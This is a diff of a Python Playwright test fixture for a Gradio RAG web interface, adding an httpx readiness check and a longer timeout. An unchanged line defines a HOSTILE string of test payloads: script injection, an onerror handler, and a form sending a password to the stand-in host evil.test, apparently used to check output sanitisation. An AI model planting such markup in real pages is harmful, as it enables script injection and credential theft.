@@ -10,9 +10,10 @@ from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from pathlib import Path
 
+import httpx
 import pytest
 import uvicorn
-from playwright.sync_api import Browser, Page, sync_playwright
+from playwright.sync_api import Browser, Page, expect, sync_playwright
 
 from rag.settings import load_settings
 from ui.web.app import application
@@ -25,6 +26,7 @@ from ui.web.server import own_names
 CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
 FLAGS = "--no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking --disable-component-update --disable-sync"
 NO_CHROMIUM = "no Chromium is installed: apt-get install chromium"
+expect.set_options(timeout=20_000)  # milliseconds: many tests may share the machine
 HOSTILE = (
     '<script>window.owned=1</script><img src="http://evil.test/x.png" onerror="window.owned=1">'
     "![x](http://evil.test/y.png) [ref]: http://evil.test/z <form action=http://evil.test><input type=password></form>"
@@ -92,6 +94,9 @@ def served(held: Held) -> Iterator[Served]:
     thread.start()
     while not server.started:
         time.sleep(0.02)
+    httpx.get(
+        f"http://127.0.0.1:{port}/gradio_api/info", timeout=100, trust_env=False
+    )  # waits until Gradio is imported
     yield Served(url=f"http://127.0.0.1:{port}", held=held, guard=guard)
     server.should_exit = True
     thread.join()
